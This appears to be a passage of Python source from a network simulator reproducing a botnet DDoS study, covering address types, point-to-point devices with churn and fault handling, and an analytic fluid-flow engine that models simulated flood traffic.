    """Shared machinery for fixed-width integer-backed addresses."""

    __slots__ = ("_value",)
    BITS: int = 0

    def __init__(self, value: int):
        limit = 1 << self.BITS
        if not 0 <= value < limit:
            raise AddressError(
                f"{type(self).__name__} value {value:#x} out of range (0..2^{self.BITS})"
            )
        self._value = value

    @property
    def value(self) -> int:
        """The raw integer value of the address."""
        return self._value

    def __eq__(self, other: object) -> bool:
        return type(other) is type(self) and other._value == self._value  # type: ignore[attr-defined]

    def __hash__(self) -> int:
        return hash((type(self).__name__, self._value))

    def __lt__(self, other: "_IntAddress") -> bool:
        if type(other) is not type(self):
            raise TypeError(f"cannot order {type(self).__name__} against {type(other).__name__}")
        return self._value < other._value

    def __repr__(self) -> str:
        return f"{type(self).__name__}({str(self)!r})"


class MacAddress(_IntAddress):
    """A 48-bit IEEE 802 MAC address."""

    BITS = 48
    _counter = 0

    @classmethod
    def parse(cls, text: str) -> "MacAddress":
        parts = text.split(":")
        if len(parts) != 6:
            raise AddressError(f"malformed MAC address {text!r}")
        try:
            octets = [int(part, 16) for part in parts]
        except ValueError as exc:
            raise AddressError(f"malformed MAC address {text!r}") from exc
        if any(not 0 <= octet <= 0xFF for octet in octets):
            raise AddressError(f"malformed MAC address {text!r}")
        value = 0
        for octet in octets:
            value = (value << 8) | octet
        return cls(value)

    @classmethod
    def allocate(cls) -> "MacAddress":
        """Allocate the next locally administered MAC (02:00:00:...)."""
        cls._counter += 1
        return cls((0x02 << 40) | cls._counter)

    def __str__(self) -> str:
        octets = [(self._value >> shift) & 0xFF for shift in range(40, -8, -8)]
        return ":".join(f"{octet:02x}" for octet in octets)


class Ipv4Address(_IntAddress):
    """A 32-bit IPv4 address (dotted-quad text form)."""

    BITS = 32

    @classmethod
    def parse(cls, text: str) -> "Ipv4Address":
        parts = text.split(".")
        if len(parts) != 4:
            raise AddressError(f"malformed IPv4 address {text!r}")
        value = 0
        for part in parts:
            if not part.isdigit():
                raise AddressError(f"malformed IPv4 address {text!r}")
            octet = int(part)
            if octet > 255 or (len(part) > 1 and part[0] == "0"):
                raise AddressError(f"malformed IPv4 address {text!r}")
            value = (value << 8) | octet
        return cls(value)

    @property
    def is_multicast(self) -> bool:
        """True for 224.0.0.0/4."""
        return (self._value >> 28) == 0xE

    @property
    def is_broadcast(self) -> bool:
        return self._value == 0xFFFFFFFF

    def __str__(self) -> str:
        return ".".join(
            str((self._value >> shift) & 0xFF) for shift in (24, 16, 8, 0)
        )


class Ipv6Address(_IntAddress):
    """A 128-bit IPv6 address with RFC 5952 text formatting.

    Implements the ``::`` zero-run compression on output and accepts both
    compressed and full forms on input.  Multicast (``ff00::/8``) is
    first-class because DHCPv6 exploit delivery multicasts to
    :data:`ALL_DHCP_RELAY_AGENTS_AND_SERVERS`.
    """

    BITS = 128

    @classmethod
    def parse(cls, text: str) -> "Ipv6Address":
        if text.count("::") > 1:
            raise AddressError(f"malformed IPv6 address {text!r}")
        if "::" in text:
            head_text, tail_text = text.split("::", 1)
            head = head_text.split(":") if head_text else []
            tail = tail_text.split(":") if tail_text else []
            missing = 8 - len(head) - len(tail)
            if missing < 1:
                raise AddressError(f"malformed IPv6 address {text!r}")
            groups = head + ["0"] * missing + tail
        else:
            groups = text.split(":")
        if len(groups) != 8:
            raise AddressError(f"malformed IPv6 address {text!r}")
        value = 0
        for group in groups:
            if not group or len(group) > 4:
                raise AddressError(f"malformed IPv6 address {text!r}")
            try:
                word = int(group, 16)
            except ValueError as exc:
                raise AddressError(f"malformed IPv6 address {text!r}") from exc
            value = (value << 16) | word
        return cls(value)

    @property
    def groups(self) -> Tuple[int, ...]:
        """The eight 16-bit groups, most significant first."""
        return tuple((self._value >> shift) & 0xFFFF for shift in range(112, -16, -16))

    @property
    def is_multicast(self) -> bool:
        """True for ff00::/8."""
        return (self._value >> 120) == 0xFF

    @property
    def is_link_local(self) -> bool:
        """True for fe80::/10."""
        return (self._value >> 118) == (0xFE80 >> 6)

    def __str__(self) -> str:
        groups = self.groups
        # Find the longest run of zero groups (length >= 2) for "::".
        best_start, best_len = -1, 0
        run_start, run_len = -1, 0
        for index, group in enumerate(groups):
            if group == 0:
                if run_start < 0:
                    run_start, run_len = index, 0
                run_len += 1
                if run_len > best_len:
                    best_start, best_len = run_start, run_len
            else:
                run_start, run_len = -1, 0
        if best_len < 2:
            return ":".join(f"{group:x}" for group in groups)
        head = ":".join(f"{group:x}" for group in groups[:best_start])
        tail = ":".join(f"{group:x}" for group in groups[best_start + best_len:])
        return f"{head}::{tail}"


Address = Union[Ipv4Address, Ipv6Address]

#: DHCPv6 All_DHCP_Relay_Agents_and_Servers multicast group (RFC 8415).
ALL_DHCP_RELAY_AGENTS_AND_SERVERS = Ipv6Address.parse("ff02::1:2")

#: All-nodes link-local multicast group.
ALL_NODES_MULTICAST = Ipv6Address.parse("ff02::1")


class Ipv6AddressAllocator:
    """Hands out unique global unicast IPv6 addresses under a /64 prefix."""

    def __init__(self, prefix: str = "2001:db8:0:1"):
        self._prefix_value = Ipv6Address.parse(prefix + "::").value
        self._next_iid = 0

    def allocate(self) -> Ipv6Address:
        self._next_iid += 1
        return Ipv6Address(self._prefix_value | self._next_iid)

    def __iter__(self) -> Iterator[Ipv6Address]:
        while True:
            yield self.allocate()


class Ipv4AddressAllocator:
    """Hands out unique host addresses under an IPv4 /16 prefix."""

    def __init__(self, prefix: str = "10.0.0.0"):
        base = Ipv4Address.parse(prefix).value
        self._base = base & 0xFFFF0000
        self._next_host = 0

    def allocate(self) -> Ipv4Address:
        self._next_host += 1
        if self._next_host >= 0xFFFF:
            raise AddressError("IPv4 /16 pool exhausted")
        return Ipv4Address(self._base | self._next_host)

    def __iter__(self) -> Iterator[Ipv4Address]:
        while True:
            yield self.allocate()
