"""Net devices: the NICs that connect nodes to channels.

A :class:`PointToPointDevice` serializes packets at its configured data
rate through a drop-tail queue — the mechanism behind both the paper's
100–500 kbps IoT access links and the TServer bottleneck whose saturation
produces Figure 2's sublinear growth.

Devices can be taken ``down``/``up`` at runtime; churn (§IV-A of the
paper) is implemented as exactly that: a departed device's link drops all
traffic until the device rejoins.

Administrative state (:mod:`repro.faults`) is tracked separately from
churn state: a device forwards only when it is both operationally and
administratively up, so a churn rejoin cannot resurrect an admin-downed
link and clearing an admin fault restores whatever churn last decided.
The hot paths keep reading the single combined ``up`` flag.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Optional

from repro.netsim.address import MacAddress
from repro.netsim.channel import Channel
from repro.netsim.packet import Packet
from repro.netsim.queues import DropTailQueue
from repro.netsim.simulator import Simulator

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.netsim.node import Node


class NetDevice:
    """Base net device; concrete devices implement ``send``."""

    def __init__(self, sim: Simulator, name: str = "dev"):
        self.sim = sim
        self.name = name
        self.node: Optional["Node"] = None
        self.channel: Optional[Channel] = None
        self.mac = MacAddress.allocate()
        self.up = True  # combined flag: _oper_up and admin_up
        self._oper_up = True
        self.admin_up = True
        # Counters (FlowMonitor and the resource model read these).
        self.tx_packets = 0
        self.tx_bytes = 0
        self.rx_packets = 0
        self.rx_bytes = 0
        self.drops_down = 0  # packets lost because the link was down

    def send(self, packet: Packet) -> bool:
        raise NotImplementedError

    def receive(self, packet: Packet) -> None:
        """Deliver an arriving packet up to the node's IP layer."""
        if not self.up:
            self.drops_down += packet.count
            return
        self.rx_packets += packet.count
        self.rx_bytes += packet.size * packet.count
        if self.node is not None:
            self.node.ip.receive(packet, self)

    def _notify_flows(self) -> None:
        """Link state changed: let the fluid-flow engine (if any) close
        the current constant-rate segment and re-solve."""
        flows = self.sim.flows
        if flows is not None:
            flows.on_link_change()

    def set_down(self) -> None:
        """Take the device offline (churn departure)."""
        self._oper_up = False
        self.up = False
        self._notify_flows()

    def set_up(self) -> None:
        """Bring the device back online (churn rejoin)."""
        self._oper_up = True
        if self.admin_up:
            self.up = True
        self._notify_flows()

    def set_admin_down(self) -> None:
        """Fault injection: administratively disable the device."""
        self.admin_up = False
        self.up = False
        self._notify_flows()

    def set_admin_up(self) -> None:
        """Clear an administrative fault; churn state still applies."""
        self.admin_up = True
        if self._oper_up:
            self.up = True
        self._notify_flows()

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        owner = self.node.name if self.node is not None else "?"
        return f"<{type(self).__name__} {self.name} on {owner} {'up' if self.up else 'down'}>"


class PointToPointDevice(NetDevice):
    """A NIC on one end of a point-to-point link.

    ``data_rate_bps`` bounds throughput via serialization delay
    (``size * 8 / rate`` per packet); excess arrivals wait in ``queue``
    and overflow is dropped — NS-3's PointToPointNetDevice behaviour.
    """

    def __init__(
        self,
        sim: Simulator,
        data_rate_bps: float,
        queue: Optional[DropTailQueue] = None,
        name: str = "p2p",
    ):
        super().__init__(sim, name)
        if data_rate_bps <= 0:
            raise ValueError("data rate must be positive")
        self.data_rate_bps = data_rate_bps
        self._base_data_rate_bps = data_rate_bps
        self.queue = queue if queue is not None else DropTailQueue()
        self.queue.bind_observatory(sim, name)
        self._transmitting = False

    def send(self, packet: Packet) -> bool:
        """Queue ``packet`` for transmission; False when dropped."""
        if not self.up:
            self.drops_down += packet.count
            return False
        if not self.queue.enqueue(packet):
            return False
        if not self._transmitting:
            self._transmit_next()
        return True

    def _transmit_next(self) -> None:
        packet = self.queue.dequeue()
        if packet is None:
            self._transmitting = False
            return
        self._transmitting = True
        # Per-packet serialization delay; a train occupies the wire for
        # count packets back to back.  Completion events are never
        # cancelled, so the fire-and-forget freelist path applies.
        tx_delay = packet.size * 8.0 / self.data_rate_bps
        count = packet.count
        if count > 1:
            # Serialize the train with the same float-add chain the
            # per-packet path produces (one add per member), not a
            # single `tx_delay * count` multiply: the rounding differs,
            # and a member arrival landing an ulp across a bin boundary
            # breaks the train == per-packet bit-identity contract.
            # The start time and per-member spacing are stamped so the
            # sink can replay the exact chain for every member.
            packet.spacing = tx_delay
            packet.tx_start = completion = self.sim.now
            for _ in range(count):
                completion += tx_delay
            self.sim.schedule_bare_at(completion, self._transmit_complete, packet)
        else:
            self.sim.schedule_bare(tx_delay, self._transmit_complete, packet)

    def _transmit_complete(self, packet: Packet) -> None:
        if self.up and self.channel is not None:
            self.tx_packets += packet.count
            self.tx_bytes += packet.size * packet.count
            self.channel.transmit(self, packet)
        else:
            self.drops_down += packet.count
        self._transmit_next()

    def set_down(self) -> None:
        """Churn departure: link dies, queued packets are lost."""
        super().set_down()
        self.queue.clear()

    def set_admin_down(self) -> None:
        """Fault outage: link dies, queued packets are lost."""
        super().set_admin_down()
        self.queue.clear()

    def override_data_rate(self, data_rate_bps: float) -> None:
        """Degrade (or restore-differently) the serialization rate."""
        if data_rate_bps <= 0:
            raise ValueError("data rate must be positive")
        self.data_rate_bps = data_rate_bps
        self._notify_flows()

    def clear_data_rate_override(self) -> None:
        self.data_rate_bps = self._base_data_rate_bps
        self._notify_flows()
