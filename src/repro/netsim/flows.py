"""Fluid-flow datapath: analytic steady-state flood traffic.

The packet path (even train-batched, :mod:`repro.netsim.packet`) costs
one scheduled event per train per hop, which bounds how many flood
packets a run can afford.  A steady UDP-PLAIN flood, however, is fully
described by a handful of numbers — wire rate, packet size, source,
target, start/stop — so this module represents it as a
:class:`FluidFlow` and solves the network analytically instead of
scheduling its packets.

The solver is piecewise-constant: between *epochs* (flow start/stop,
link up/down/degrade from churn or :mod:`repro.faults`, sink
start/stop) every rate in the network is constant, so each queue's
behaviour has a closed form — aggregate inflow against the link drain
rate yields a pass fraction, a queue-depth trajectory (fill, saturate,
drain) and a drop fraction.  The :class:`FlowEngine` re-linearizes only
at epochs; a 100-second flood that would schedule millions of packet
events costs a few dozen epoch solves.

Accounting is exact in expectation and fully deterministic: queues see
integer drop counts (``queue_drops_total``, span drop attribution),
devices and channels see tx/carried counters, and the TServer
:class:`~repro.netsim.sink.PacketSink` integrates flow byte-rates into
the same per-second ``bytes_per_bin`` histogram the packet path fills.
Fractional bytes/packets carry across segments through per-flow
remainder accumulators, so totals never drift.

Crossover modes (``SimulationConfig.flood_flow`` / ``--flow``):

* ``off``  — no engine at all; the exact packet/train datapath.
* ``auto`` — hybrid: upstream hops (each bot's access link, typically
  uncongested because floods pace at the link rate) are fluid, while
  the *last* hop — the congested bottleneck queue in front of the sink
  — receives real :class:`~repro.netsim.packet.PacketTrain` injections
  at the upstream-surviving rate, keeping packet-exact drop-tail
  behaviour and per-packet sink arrival times where congestion decides
  the result.
* ``all``  — fully fluid end to end; the sink is credited analytically.

Known approximations (all expectation-neutral): flows do not contend
with discrete packets sharing a queue (flood queues carry only flood
traffic in the paper's star), channel-loss Bernoulli draws become exact
fractions (no RNG is consumed), and a stopping flow's residual queue
backlog is credited to the sink at the stop instant.
"""

from __future__ import annotations

import itertools
from typing import Dict, List, Optional, Tuple

from repro.netsim.address import Address, Ipv6Address
from repro.netsim.headers import PROTO_UDP, UdpHeader, ip_header_for
from repro.netsim.packet import PacketTrain

#: crossover knob values (config ``flood_flow`` / CLI ``--flow``)
FLOW_MODES = ("off", "auto", "all")

#: packets per train injected at the crossover hop in ``auto`` mode
CROSSOVER_TRAIN = 16

#: safety bound on fluid path resolution
MAX_PATH_HOPS = 16


class FlowPathError(RuntimeError):
    """Raised when a fluid path to the destination cannot be resolved."""


def resolve_path(node, destination: Address) -> Tuple[list, object]:
    """Static route walk from ``node`` to the node owning ``destination``.

    Returns ``(hops, final_node)`` where ``hops`` is the ordered list of
    egress :class:`~repro.netsim.netdevice.NetDevice`\\ s the traffic
    serializes through.  Routing in the star (and any static host-route
    topology) never changes at runtime, so the path is resolved once per
    flow; only link *state* along it varies between epochs.
    """
    hops = []
    current = node
    for _ in range(MAX_PATH_HOPS):
        if destination in current.ip.addresses:
            return hops, current
        device = current.ip.routes.get(destination)
        if device is None:
            device = current.ip.default_device
        if device is None or device.channel is None:
            raise FlowPathError(
                f"{current.name}: no egress toward {destination}"
            )
        peer = device.channel.peer_of(device)
        if peer is None or peer.node is None:
            raise FlowPathError(
                f"{current.name}: {device.name} has no wired peer"
            )
        hops.append(device)
        current = peer.node
    raise FlowPathError(f"path to {destination} exceeds {MAX_PATH_HOPS} hops")


class FluidFlow:
    """One steady flood stream as a rate object.

    ``rate_bps`` is the *wire* emission rate (payload plus UDP/IP
    headers — the same pacing :func:`repro.botnet.attacks.udp_plain_flood`
    derives), ``packet_size`` the wire bytes per packet.  Offered,
    delivered and dropped byte totals accumulate as the engine
    integrates segments; ``offered_packets`` quantizes deterministically.
    """

    __slots__ = (
        "flow_id", "node", "src_address", "src_port", "dst_address",
        "dst_port", "rate_bps", "packet_size", "payload_size", "span",
        "started_at", "stopped_at", "active", "hops", "fluid_hops",
        "sink_node", "offered_bytes", "delivered_bytes", "dropped_bytes",
        "inject_rate_bps", "inject_device", "_injecting", "_inject_started",
        "_seg_latency", "_seg_sink",
    )

    def __init__(self, flow_id: int, node, src_address: Address, src_port: int,
                 dst_address: Address, dst_port: int, rate_bps: float,
                 packet_size: int, payload_size: int, started_at: float,
                 span: Optional[str] = None):
        self.flow_id = flow_id
        self.node = node
        self.src_address = src_address
        self.src_port = src_port
        self.dst_address = dst_address
        self.dst_port = dst_port
        self.rate_bps = float(rate_bps)
        self.packet_size = int(packet_size)
        self.payload_size = int(payload_size)
        self.span = span
        self.started_at = started_at
        self.stopped_at: Optional[float] = None
        self.active = True
        self.hops: list = []
        self.fluid_hops: list = []
        self.sink_node = None
        self.offered_bytes = 0.0
        self.delivered_bytes = 0.0
        self.dropped_bytes = 0.0
        # Crossover injection state (auto mode).
        self.inject_rate_bps = 0.0
        self.inject_device = None
        self._injecting = False
        self._inject_started = False
        # Captured per-epoch by the solver.
        self._seg_latency = 0.0
        self._seg_sink = None

    @property
    def offered_packets(self) -> int:
        """Deterministic packet count for the offered byte volume."""
        if self.packet_size <= 0:
            return 0
        return int(self.offered_bytes / self.packet_size + 0.5)

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        state = "active" if self.active else "stopped"
        return (
            f"<FluidFlow #{self.flow_id} {self.rate_bps:.0f}bps "
            f"{self.packet_size}B {state}>"
        )


class _HopSlot:
    """Persistent per-(queue, flow) fluid state: backlog bytes plus the
    fractional-packet remainders that keep integer counters drift-free."""

    __slots__ = ("backlog", "drop_rem", "tx_rem", "loss_rem", "down_rem")

    def __init__(self):
        self.backlog = 0.0
        self.drop_rem = 0.0
        self.tx_rem = 0.0
        self.loss_rem = 0.0
        self.down_rem = 0.0


class _GroupPlan:
    """One queue's solved segment: capacity/loss captured at the epoch
    (immune to mid-segment mutation order) plus its member flows."""

    __slots__ = ("device", "cap_bps", "loss_factor", "max_backlog_bytes",
                 "members")

    def __init__(self, device, cap_bps: float, loss_factor: float):
        self.device = device
        self.cap_bps = cap_bps
        self.loss_factor = loss_factor
        self.max_backlog_bytes = 0.0
        self.members: List[FluidFlow] = []


class FlowEngine:
    """Piecewise-constant rate solver for :class:`FluidFlow` traffic.

    Lazily integrates: nothing is scheduled for a steady flow (``all``
    mode schedules *zero* events); state only advances when an epoch —
    :meth:`start_flow`, :meth:`stop_flow`, :meth:`on_link_change`, or a
    final :meth:`flush` — closes the current constant-rate segment.
    """

    def __init__(self, sim, mode: str = "all", train: int = CROSSOVER_TRAIN):
        if mode not in FLOW_MODES or mode == "off":
            raise ValueError(f"flow engine mode must be 'auto' or 'all', got {mode!r}")
        self.sim = sim
        self.mode = mode
        self.train = max(1, int(train))
        self.flows: List[FluidFlow] = []
        self.finished: List[FluidFlow] = []
        self.epochs = 0
        self._flow_ids = itertools.count(1)
        self._seg_start = sim.now
        #: solved plan: one list of _GroupPlan per hop position
        self._plan: List[List[_GroupPlan]] = []
        #: per-device per-flow fluid state (insertion-ordered, never sorted)
        self._hop_states: Dict[object, Dict[FluidFlow, _HopSlot]] = {}
        obs = sim.obs
        self._tracer = obs.tracer
        self._epoch_counter = obs.metrics.counter(
            "flow_epochs_total", help="fluid-flow re-linearization epochs"
        )
        self._flows_started = obs.metrics.counter(
            "flows_started_total", help="fluid flows ever started"
        )
        obs.metrics.gauge(
            "flows_active", help="fluid flows currently active",
            fn=lambda: len(self.flows),
        )
        sim.flows = self

    # ------------------------------------------------------------------
    # Flow lifecycle
    # ------------------------------------------------------------------
    def start_flow(self, node, destination: Address, dst_port: int,
                   src_port: int, rate_bps: float, payload_size: int,
                   packet_size: int, span: Optional[str] = None) -> FluidFlow:
        """Open a flow from ``node`` toward ``destination`` and re-solve."""
        self.advance()
        hops, final_node = resolve_path(node, destination)
        if not hops:
            raise FlowPathError("fluid flows need at least one link hop")
        source = node.ip.primary_address(isinstance(destination, Ipv6Address))
        flow = FluidFlow(
            next(self._flow_ids), node, source, src_port, destination,
            dst_port, rate_bps, packet_size, payload_size, self.sim.now,
            span=span,
        )
        flow.hops = hops
        if self.mode == "all":
            flow.fluid_hops = hops
        else:
            flow.fluid_hops = hops[:-1]
            flow.inject_device = hops[-1]
        flow.sink_node = final_node
        self.flows.append(flow)
        self._flows_started.inc()
        if self._tracer.enabled:
            self._tracer.emit(
                "flow.start", self.sim.now, flow=flow.flow_id,
                src=str(source), rate_bps=round(flow.rate_bps, 3),
                size=flow.packet_size, mode=self.mode,
            )
        self._resolve()
        return flow

    def stop_flow(self, flow: FluidFlow) -> None:
        """Close ``flow``: integrate up to now, flush residual backlog."""
        if not flow.active:
            return
        self.advance()
        flow.active = False
        flow.stopped_at = self.sim.now
        self.flows.remove(flow)
        self.finished.append(flow)
        # Residual queue backlog would drain and arrive shortly after the
        # flood ends in packet mode; credit it at the stop instant (at
        # most one queue's worth of bytes, invisible at 1 s bins).
        residual = 0.0
        for device in flow.fluid_hops:
            slots = self._hop_states.get(device)
            if slots is None:
                continue
            slot = slots.pop(flow, None)
            if slot is not None:
                residual += slot.backlog
        if residual > 0.0 and self.mode == "all":
            sink = getattr(flow.sink_node, "fluid_sink", None)
            if sink is not None:
                at = self.sim.now + flow._seg_latency
                delivered = sink.account_fluid(flow, residual, at, at)
                flow.delivered_bytes += delivered
        if self._tracer.enabled:
            self._tracer.emit(
                "flow.stop", self.sim.now, flow=flow.flow_id,
                offered=round(flow.offered_bytes, 3),
                delivered=round(flow.delivered_bytes, 3),
            )
        self._resolve()

    def on_link_change(self) -> None:
        """Epoch hook for churn/fault link mutations (device up/down,
        data-rate overrides, channel parameter overrides)."""
        if not self.flows:
            return
        self.advance()
        self._resolve()

    #: alias used by fault injection, naming the operation it performs
    relinearize = on_link_change

    def flush(self) -> None:
        """Integrate through ``sim.now`` (end-of-run settlement)."""
        self.advance()

    def checkpoint_state(self) -> dict:
        """Deterministic engine state — epochs, every flow's exact byte
        accounting, and all fractional-packet remainder accumulators —
        for checkpoint fingerprinting.  Read-only: no segment is closed.
        """

        def flow_state(flow: FluidFlow) -> list:
            return [
                flow.flow_id,
                str(flow.src_address),
                flow.src_port,
                flow.dst_port,
                flow.rate_bps,
                flow.packet_size,
                flow.started_at,
                flow.stopped_at,
                flow.active,
                flow.offered_bytes,
                flow.delivered_bytes,
                flow.dropped_bytes,
                flow.inject_rate_bps,
                flow._injecting,
                flow._inject_started,
                flow._seg_latency,
            ]

        hops = []
        for device, slots in self._hop_states.items():
            hops.append([
                getattr(device, "name", type(device).__name__),
                [
                    [flow.flow_id, slot.backlog, slot.drop_rem, slot.tx_rem,
                     slot.loss_rem, slot.down_rem]
                    for flow, slot in slots.items()
                ],
            ])
        return {
            "mode": self.mode,
            "epochs": self.epochs,
            "seg_start": self._seg_start,
            "active": [flow_state(flow) for flow in self.flows],
            "finished": [flow_state(flow) for flow in self.finished],
            "hops": hops,
        }

    # ------------------------------------------------------------------
    # Segment integration
    # ------------------------------------------------------------------
    def advance(self, now: Optional[float] = None) -> None:
        """Finalize the constant-rate segment from the last epoch to
        ``now`` under the plan captured at that epoch."""
        if now is None:
            now = self.sim.now
        dt = now - self._seg_start
        if dt <= 0.0:
            return
        self._integrate(self._seg_start, now)
        self._seg_start = now

    def _integrate(self, t0: float, t1: float) -> None:
        dt = t1 - t0
        if not self.flows:
            return
        # Bytes each flow pushes into its first hop this segment; the
        # cascade below thins the carry hop by hop.
        carry: Dict[FluidFlow, float] = {}
        for flow in self.flows:
            nbytes = flow.rate_bps * dt / 8.0
            flow.offered_bytes += nbytes
            carry[flow] = nbytes
        for groups in self._plan:
            for group in groups:
                self._integrate_group(group, carry, dt)
        if self.mode != "all":
            return
        for flow in self.flows:
            nbytes = carry.get(flow, 0.0)
            if nbytes <= 0.0:
                continue
            sink = flow._seg_sink
            if sink is None:
                continue
            latency = flow._seg_latency
            delivered = sink.account_fluid(
                flow, nbytes, t0 + latency, t1 + latency
            )
            flow.delivered_bytes += delivered

    def _integrate_group(self, group: _GroupPlan,
                         carry: Dict[FluidFlow, float], dt: float) -> None:
        device = group.device
        slots = self._hop_states.setdefault(device, {})
        demand = 0.0
        total_in = 0.0
        for flow in group.members:
            slot = slots.get(flow)
            if slot is None:
                slot = slots[flow] = _HopSlot()
            inflow = carry.get(flow, 0.0)
            demand += inflow
            total_in += inflow + slot.backlog
        if total_in <= 0.0:
            return
        if group.cap_bps <= 0.0:
            # Link down: everything offered (and any stranded backlog)
            # is lost exactly as the packet path's drops_down accounting.
            for flow in group.members:
                slot = slots[flow]
                lost = carry.get(flow, 0.0) + slot.backlog
                slot.backlog = 0.0
                carry[flow] = 0.0
                if lost <= 0.0:
                    continue
                flow.dropped_bytes += lost
                slot.down_rem += lost / flow.packet_size
                whole = int(slot.down_rem)
                if whole:
                    slot.down_rem -= whole
                    device.drops_down += whole
            return
        cap_bytes = group.cap_bps * dt / 8.0
        out_total = min(cap_bytes, total_in)
        leftover = total_in - out_total
        new_backlog_total = min(group.max_backlog_bytes, leftover)
        dropped_total = leftover - new_backlog_total
        queue = getattr(device, "queue", None)
        channel = device.channel
        tx_packets = 0
        tx_bytes = 0
        carried_packets = 0
        carried_bytes = 0
        lost_packets = 0
        for flow in group.members:
            slot = slots[flow]
            flow_in = carry.get(flow, 0.0) + slot.backlog
            if flow_in <= 0.0:
                carry[flow] = 0.0
                continue
            share = flow_in / total_in
            out_flow = out_total * share
            slot.backlog = new_backlog_total * share
            dropped_flow = dropped_total * share
            passed_flow = out_flow * group.loss_factor
            lost_flow = out_flow - passed_flow
            carry[flow] = passed_flow
            size = flow.packet_size
            if dropped_flow > 0.0:
                flow.dropped_bytes += dropped_flow
                slot.drop_rem += dropped_flow / size
                whole = int(slot.drop_rem)
                if whole and queue is not None:
                    slot.drop_rem -= whole
                    queue.fluid_drop(whole, size, "overflow_fluid",
                                     span=flow.span)
            if out_flow > 0.0:
                slot.tx_rem += out_flow / size
                whole = int(slot.tx_rem)
                if whole:
                    slot.tx_rem -= whole
                    tx_packets += whole
                    tx_bytes += whole * size
            if lost_flow > 0.0:
                flow.dropped_bytes += lost_flow
                slot.loss_rem += lost_flow / size
                whole = int(slot.loss_rem)
                if whole:
                    slot.loss_rem -= whole
                    lost_packets += whole
        if tx_packets:
            device.tx_packets += tx_packets
            device.tx_bytes += tx_bytes
            carried_packets = tx_packets - lost_packets
            carried_bytes = tx_bytes - lost_packets * (
                tx_bytes // tx_packets if tx_packets else 0
            )
        if channel is not None and (carried_packets or lost_packets):
            channel.fluid_carry(carried_packets, carried_bytes, lost_packets)

    # ------------------------------------------------------------------
    # Epoch solve
    # ------------------------------------------------------------------
    def _resolve(self) -> None:
        """Capture a new piecewise-constant plan from current link state:
        per-queue capacity/loss/backlog-cap plus rate-based pass
        fractions (the injector rates for ``auto`` crossover)."""
        self.epochs += 1
        self._epoch_counter.inc()
        plan: List[List[_GroupPlan]] = []
        rate: Dict[FluidFlow, float] = {}
        max_hops = 0
        for flow in self.flows:
            rate[flow] = flow.rate_bps
            if len(flow.fluid_hops) > max_hops:
                max_hops = len(flow.fluid_hops)
        for position in range(max_hops):
            groups: Dict[object, _GroupPlan] = {}
            for flow in self.flows:
                if position >= len(flow.fluid_hops):
                    continue
                device = flow.fluid_hops[position]
                group = groups.get(device)
                if group is None:
                    channel = device.channel
                    loss = channel.loss_rate if channel is not None else 0.0
                    cap = device.data_rate_bps if device.up else 0.0
                    group = _GroupPlan(device, cap, 1.0 - loss)
                    groups[device] = group
                group.members.append(flow)
            group_list = list(groups.values())
            for group in group_list:
                demand = 0.0
                weighted_size = 0.0
                for flow in group.members:
                    demand += rate[flow]
                    weighted_size += rate[flow] * flow.packet_size
                avg_size = (
                    weighted_size / demand if demand > 0.0
                    else float(group.members[0].packet_size)
                )
                queue = getattr(group.device, "queue", None)
                if queue is not None:
                    max_backlog = queue.max_packets * avg_size
                    if queue.max_bytes is not None:
                        max_backlog = min(max_backlog, float(queue.max_bytes))
                else:
                    max_backlog = 0.0
                group.max_backlog_bytes = max_backlog
                if group.cap_bps <= 0.0:
                    pass_fraction = 0.0
                elif demand > group.cap_bps > 0.0:
                    pass_fraction = group.cap_bps / demand
                else:
                    pass_fraction = 1.0
                pass_fraction *= group.loss_factor
                for flow in group.members:
                    rate[flow] *= pass_fraction
            plan.append(group_list)
        self._plan = plan
        for flow in self.flows:
            latency = 0.0
            for device in flow.fluid_hops:
                if device.channel is not None:
                    latency += device.channel.delay
            flow._seg_latency = latency
            flow._seg_sink = getattr(flow.sink_node, "fluid_sink", None)
        if self.mode == "auto":
            for flow in self.flows:
                flow.inject_rate_bps = rate[flow]
                self._ensure_injector(flow)
        if self._tracer.enabled:
            self._tracer.emit(
                "flow.epoch", self.sim.now, flows=len(self.flows),
                epoch=self.epochs,
            )

    # ------------------------------------------------------------------
    # Crossover injection (auto mode)
    # ------------------------------------------------------------------
    def _ensure_injector(self, flow: FluidFlow) -> None:
        """(Re)start the packet-train injector feeding the crossover hop."""
        if flow._injecting or flow.inject_rate_bps <= 0.0 or not flow.active:
            return
        flow._injecting = True
        if flow._inject_started:
            delay = self._inject_interval(flow)
        else:
            # First train reaches the bottleneck after the upstream
            # propagation latency, like the packet path's first packet.
            flow._inject_started = True
            delay = flow._seg_latency
        self.sim.schedule_bare(delay, self._inject, flow)

    def _inject_interval(self, flow: FluidFlow) -> float:
        return self.train * flow.packet_size * 8.0 / flow.inject_rate_bps

    def _inject(self, flow: FluidFlow) -> None:
        if not flow.active or flow.inject_rate_bps <= 0.0:
            flow._injecting = False
            return
        packet = PacketTrain(flow.payload_size, self.train,
                             created_at=self.sim.now)
        if flow.span is not None:
            packet.span = flow.span
        packet.add_header(UdpHeader(flow.src_port, flow.dst_port))
        packet.add_header(
            ip_header_for(flow.src_address, flow.dst_address, PROTO_UDP, 63)
        )
        device = flow.inject_device
        if device.send(packet):
            flow.delivered_bytes += packet.size * packet.count
        self.sim.schedule_bare(self._inject_interval(flow), self._inject, flow)

    # ------------------------------------------------------------------
    # Introspection (tests, reports)
    # ------------------------------------------------------------------
    def queue_backlog_bytes(self, device) -> float:
        """Current fluid backlog at ``device``'s queue (the queue-depth
        trajectory sampled at the last epoch boundary)."""
        slots = self._hop_states.get(device)
        if not slots:
            return 0.0
        total = 0.0
        for slot in slots.values():
            total += slot.backlog
        return total

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        return (
            f"<FlowEngine mode={self.mode} flows={len(self.flows)} "
            f"epochs={self.epochs}>"
        )
