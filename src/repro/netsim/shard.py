"""Sharded simulation engine: one run, many cores, byte-identical results.

A conservative parallel discrete-event engine for :class:`DDoSim` runs.
The star topology (paper §III-D) gives every Dev its own point-to-point
access link with a fixed propagation delay — that delay is a hard lower
bound on how far in virtual time one side of a link can affect the
other, i.e. a *lookahead* in the classical CMB (Chandy–Misra–Bryant)
sense.  This module partitions ONE simulation across worker processes:

* **Replicated build, partitioned execution.**  Every rank builds the
  complete DDoSim object graph identically (all build-time RNG draws are
  replicated), then only *starts* the components it owns.  The parent
